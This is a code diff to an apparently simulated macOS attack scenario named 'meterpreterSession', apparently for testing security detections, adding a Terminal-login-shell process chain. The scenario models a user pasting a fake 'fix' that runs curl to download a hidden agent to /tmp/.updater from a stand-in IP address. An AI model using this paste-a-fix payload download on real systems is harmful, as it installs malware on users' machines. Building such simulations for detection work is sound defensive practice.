@@ -1,6 +1,6 @@
 import { FCNTL, FFLAG, FDTYPE, PROC_CHECK } from '../es.js';
 import type { Scenario } from '../scenario.js';
-import type { Proc, World } from '../world.js';
+import { ROOT, USER, type Proc, type World } from '../world.js';
 import { desktop, pipeFds, run } from './desktop.js';
 
 const AGENT = '/tmp/.updater';
@@ -50,6 +50,11 @@ export const meterpreterSession: Scenario = {
   },
   build(w) {
     const d = desktop(w);
+    // The user opens a new Terminal tab: Terminal → login (setuid root) → -zsh, so alerts show the
+    // whole chain back to Terminal.
+    const login = w.spawn(d.terminal, '/usr/bin/login', ['login', '-pf', 'alice'], { euid: ROOT, tty: '/dev/ttys004', responsible: d.terminal });
+    const shell = w.spawn(login, '/bin/zsh', ['-zsh'], { euid: USER, ruid: USER, tty: '/dev/ttys004', cwd: w.home });
+    d.shell = shell;
     w.pause(1500, 2500);
     // Install: the user pastes a "fix" from a web page.
     const curl = w.spawn(d.shell, '/usr/bin/curl', ['curl', '-s', '-o', AGENT, 'http://203.0.113.7:8080/updater']);
